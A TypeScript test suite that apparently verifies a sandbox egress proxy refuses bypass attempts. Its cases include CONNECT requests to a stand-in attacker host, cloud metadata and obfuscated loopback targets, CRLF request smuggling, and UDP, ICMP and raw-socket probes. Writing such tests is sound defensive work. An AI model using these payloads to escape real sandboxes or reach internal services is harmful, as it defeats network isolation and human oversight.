/** Attacks by way of the proxy's own ports, and by what is no TCP. */
import assert from 'node:assert/strict'
import { type Attack, refused, unseen } from './attack.ts'

const none = /^(unreachable|timeout|refused|operation not permitted|permission denied)$/

export const proxyAttacks: Attack[] = [
  {
    name: 'CONNECT to what is not listed: a name, an address, a private one, the host, loopback, the metadata service',
    does: ({ evil, private: inside, host }) => `
for target in 'evil.test:443', '${evil}:443', '${inside}:80', '${host}:22', '127.0.0.1:22', '169.254.169.254:80', '[::1]:80', '[::ffff:${evil}]:80', '0:80', '2130706433:80', '0x7f.1:80', 'localhost:22':
    print(connect(target, data=request('evil.test', '/within')))`,
    ends: /^HTTP\/1\.1 (400|403|502)\b|\| (HTTP\/1\.1 (400|403|421|502)\b|closed|reset)/,
    holds: unseen('within'),
  },
  {
    name: 'CONNECT to odd targets',
    does: `
for target in 'other.test', 'other.test:', 'other.test:0', 'other.test:65536', 'other.test:443@evil.test:443', 'evil.test:443#other.test:443', 'other.test:443/../', ':443', 'other.test:443 ', 'other.test:-1', 'other.test:22':
    print(connect(target).split('\\r\\n')[0])`,
    ends: /^(HTTP\/1\.1 (4\d\d|50\d)|HTTP\/1\.1 200.*|closed|reset)/,
  },
  {
    name: 'CONNECT to a listed name, TLS to another within',
    does: `print(through('other.test:443', 'evil.test', request('evil.test', '/within')))`,
    ends: refused,
    holds: unseen('within'),
  },
  {
    name: 'CONNECT to a listed name, HTTP to another within',
    does: `print(connect('other.test:80', data=request('evil.test', '/within')))`,
    ends: /\| HTTP\/1\.1 (403|421)|^HTTP\/1\.1 403|closed|reset/,
    holds: unseen('within'),
  },
  {
    name: 'CONNECT within CONNECT',
    does: `print(connect('other.test:80', data=b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n'))`,
    ends: /\| HTTP\/1\.1 4\d\d|closed|reset|^HTTP\/1\.1 4/,
  },
  {
    name: 'a line break in the target of CONNECT',
    does: `print(connect('other.test:443 HTTP/1.1\\r\\nX: y\\r\\n\\r\\nGET http://evil.test/broken').split('\\r\\n')[0])`,
    ends: /./,
    holds: unseen('broken'),
  },
  {
    name: 'whole URLs of others: http, https, ftp, with user and port',
    does: `
at = '169.254.169.253'
for url in 'http://evil.test/whole', 'https://evil.test/whole', 'ftp://other.test/whole', 'http://other.test@evil.test/whole', 'http://evil.test:80/whole':
    print(status(tcp(at, 3128, request('other.test', url))))`,
    ends: /^(400|403|405|421|501|502)$/,
    holds: unseen('whole'),
  },
  {
    name: 'SOCKS, TLS and nothing at the port of the proxy',
    does: `
at = '169.254.169.253'
print(tcp(at, 3128, b'\\5\\1\\0')); print(greet(at, hello(['evil.test']), 3128)); print(status(tcp(at, 3128, b'GET / HTTP/1.1\\r\\n\\r\\n')))`,
    ends: /^(closed|reset|alert.*|400|403|405|HTTP\/1\.1 4.*)/,
  },
  {
    name: "the proxy's own ports, dialled directly",
    does: `
gate = server()
for port in 4182, 4183: print(tcp(gate, port, request('other.test', '/direct')))
print(greet(gate, hello(['evil.test']), 4182)); print(dns('evil.test', at=gate, port=4183))`,
    ends: /^(reset|closed|refused|unreachable|timeout|HTTP\/1\.1 (4|50).*|.*access denied.*|alert.*|no such name)/,
    holds: unseen('direct'),
  },
]

export const datagramAttacks: Attack[] = [
  {
    name: 'QUIC and other datagrams',
    does: ({ main, evil }) =>
      `for at in '${main}', '${evil}': print(udp(at, 443)); print(udp(at, 7777)); print(udp(at, 123)); print(udp(at, 53, b'not dns'))`,
    ends: none,
    holds: (seen) =>
      assert.deepEqual(
        seen.filter(({ kind }) => kind === 'udp'),
        [],
      ),
  },
  {
    name: 'ICMP, raw and packet sockets, and protocols of their own',
    does: ({ main }) => `
def send(kind, protocol):
    with socket.socket(socket.AF_INET, kind, protocol) as s:
        s.settimeout(2); s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('${main}', 0))
        while True:
            # A raw socket gets the header of IP too, and what the kernel says of refusals.
            answer = s.recv(100)
            if answer[20 if kind == socket.SOCK_RAW else 0] == 0: return 'answered'
print(attempt(lambda: send(socket.SOCK_RAW, socket.IPPROTO_ICMP))); print(attempt(lambda: send(socket.SOCK_DGRAM, socket.IPPROTO_ICMP)))
print(attempt(lambda: send(socket.SOCK_RAW, 47))); print(attempt(lambda: send(socket.SOCK_SEQPACKET, 132)))
print(attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 8).send(b'x' * 60)))`,
    ends: /^(unreachable|timeout|refused|operation not permitted|permission denied|protocol not supported|socket type not supported|address family not supported by protocol|destination address required|no such device or address|protocol wrong type for socket|invalid argument)$/,
  },
]
